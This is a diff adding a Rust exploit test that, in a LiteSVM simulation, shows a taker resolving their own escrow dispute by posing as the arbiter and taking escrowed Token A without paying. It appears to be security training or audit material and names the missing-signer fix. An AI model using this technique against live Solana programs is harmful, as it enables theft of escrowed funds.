@@ -0,0 +1,180 @@
+// Exploit: Unauthorized Resolve (Missing Arbiter Authorization)
+//
+// Vulnerability: ResolveDispute does not check that the arbiter signed, or that
+// the arbiter account is the one recorded in the offer.
+// Attack: The allowed taker opens a dispute, then resolves it in their own favour,
+// passing their own key as the arbiter.
+// Result: The taker receives the escrowed Token A without paying any Token B.
+
+mod utils;
+
+use utils::*;
+
+use litesvm::types::TransactionResult;
+use litesvm_token::{
+    spl_token::state::Account as TokenAccount,
+    get_spl_account,
+};
+use solana_sdk::{
+    instruction::{AccountMeta, Instruction},
+    native_token::LAMPORTS_PER_SOL,
+    signature::{Keypair, Signer},
+    transaction::Transaction,
+};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use solana_system_interface::program::ID as SYSTEM_PROGRAM_ID;
+
+// Disputes stay open for ten minutes
+const DISPUTE_WINDOW_SECONDS: i64 = 10 * 60;
+
+struct UnauthorizedResolve;
+
+struct ResolveState {
+    scenario: EscrowScenario,
+    arbiter: Keypair,
+}
+
+impl ExploitScenario for UnauthorizedResolve {
+    type State = ResolveState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V006",
+            title: "Unauthorized Resolve - Missing Arbiter Authorization",
+            severity: Severity::Critical,
+            lesson: "Require the offer's recorded arbiter to sign ResolveDispute",
+        }
+    }
+
+    fn setup(&self) -> ResolveState {
+        println!("[Scenario] Taker disputes a private offer and settles it without the arbiter");
+
+        let mut scenario = setup_escrow_scenario();
+        let arbiter = create_funded_account(&mut scenario.svm, LAMPORTS_PER_SOL);
+
+        println!("[Setup] Proposer: {}", scenario.proposer.pubkey());
+        println!("[Setup] Taker:    {}", scenario.taker.pubkey());
+        println!("[Setup] Arbiter:  {}", arbiter.pubkey());
+
+        // Private offer for the taker, with the arbiter named to settle disputes
+        let mut ix_data = build_propose_offer_data(
+            scenario.offer_id,
+            TOKEN_B_WANTED_AMOUNT,
+            TOKEN_A_OFFER_AMOUNT,
+            current_timestamp(&scenario.svm) + OFFER_DURATION_SECONDS,
+            &scenario.taker.pubkey(),
+            scenario.bump,
+        );
+        ix_data.extend(build_arbiter_config_data(&arbiter.pubkey(), DISPUTE_WINDOW_SECONDS));
+
+        let propose_ix = Instruction {
+            program_id: PROGRAM_ID,
+            accounts: vec![
+                AccountMeta::new(scenario.proposer.pubkey(), true),
+                AccountMeta::new_readonly(scenario.mint_a, false),
+                AccountMeta::new_readonly(scenario.mint_b, false),
+                AccountMeta::new(scenario.proposer_ata_a, false),
+                AccountMeta::new(scenario.offer_pda, false),
+                AccountMeta::new(scenario.vault_ata, false),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+                AccountMeta::new_readonly(SYSTEM_PROGRAM_ID, false),
+                AccountMeta::new_readonly(ASSOCIATED_TOKEN_PROGRAM_ID, false),
+            ],
+            data: ix_data,
+        };
+
+        let tx = Transaction::new_signed_with_payer(
+            &[propose_ix],
+            Some(&scenario.proposer.pubkey()),
+            &[&scenario.proposer],
+            scenario.svm.latest_blockhash(),
+        );
+        scenario.svm.send_transaction(tx).expect("ProposeOffer should succeed");
+
+        // The taker opens the dispute legitimately - this step is allowed
+        let open_ix = Instruction {
+            program_id: PROGRAM_ID,
+            accounts: vec![
+                AccountMeta::new_readonly(scenario.taker.pubkey(), true),
+                AccountMeta::new(scenario.offer_pda, false),
+            ],
+            data: build_open_dispute_data(),
+        };
+
+        let tx = Transaction::new_signed_with_payer(
+            &[open_ix],
+            Some(&scenario.taker.pubkey()),
+            &[&scenario.taker],
+            scenario.svm.latest_blockhash(),
+        );
+        scenario.svm.send_transaction(tx).expect("OpenDispute should succeed");
+
+        let vault_balance: TokenAccount = get_spl_account(&scenario.svm, &scenario.vault_ata)
+            .expect("Vault should exist");
+        println!("[Setup] Dispute open, vault Token A balance: {}", vault_balance.amount);
+
+        ResolveState { scenario, arbiter }
+    }
+
+    fn exploit(&self, state: &mut ResolveState) -> TransactionResult {
+        let scenario = &mut state.scenario;
+        let taker = scenario.taker.pubkey();
+
+        // CRITICAL: the taker passes themselves as the arbiter
+        // In a secure program, this would be rejected because the recorded arbiter must sign
+        let resolve_ix = Instruction {
+            program_id: PROGRAM_ID,
+            accounts: vec![
+                AccountMeta::new_readonly(taker, true), // EXPLOIT: taker posing as the arbiter
+                AccountMeta::new(scenario.proposer.pubkey(), false),
+                AccountMeta::new_readonly(taker, false), // recipient
+                AccountMeta::new_readonly(scenario.mint_a, false),
+                AccountMeta::new(scenario.taker_ata_a, false),
+                AccountMeta::new(scenario.offer_pda, false),
+                AccountMeta::new(scenario.vault_ata, false),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+                AccountMeta::new_readonly(SYSTEM_PROGRAM_ID, false),
+            ],
+            data: build_resolve_dispute_data(1), // award = taker
+        };
+
+        // Taker signs and pays, the real arbiter does NOT sign
+        let tx = Transaction::new_signed_with_payer(
+            &[resolve_ix],
+            Some(&taker),
+            &[&scenario.taker],
+            scenario.svm.latest_blockhash(),
+        );
+
+        println!("[Attack] Sending ResolveDispute - taker signs as arbiter, {} never signs", state.arbiter.pubkey());
+        scenario.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, state: &mut ResolveState) -> u64 {
+        let scenario = &state.scenario;
+        println!("[VULNERABLE] Transaction accepted by escrow program!");
+
+        let taker_a: TokenAccount = get_spl_account(&scenario.svm, &scenario.taker_ata_a)
+            .expect("Taker ATA A should exist");
+        assert_eq!(taker_a.amount, TOKEN_A_OFFER_AMOUNT, "Taker should hold the escrowed Token A");
+        println!("[Result] Taker received {} Token A", taker_a.amount);
+
+        let taker_b: TokenAccount = get_spl_account(&scenario.svm, &scenario.taker_ata_b)
+            .expect("Taker ATA B should exist");
+        assert_eq!(taker_b.amount, INITIAL_MINT_AMOUNT, "Taker should not have paid any Token B");
+        println!("[Result] Taker Token B unchanged: {}", taker_b.amount);
+
+        let offer_account = scenario.svm.get_account(&scenario.offer_pda);
+        assert!(offer_account.is_none() || offer_account.unwrap().data.is_empty());
+        println!("[Result] Offer PDA closed, proposer received nothing");
+
+        println!("[EXPLOIT SUCCESS] Either party can settle their own dispute!");
+
+        taker_a.amount
+    }
+}
+
+#[test]
+fn test_exploit_unauthorized_resolve() {
+    run_exploit(&UnauthorizedResolve);
+}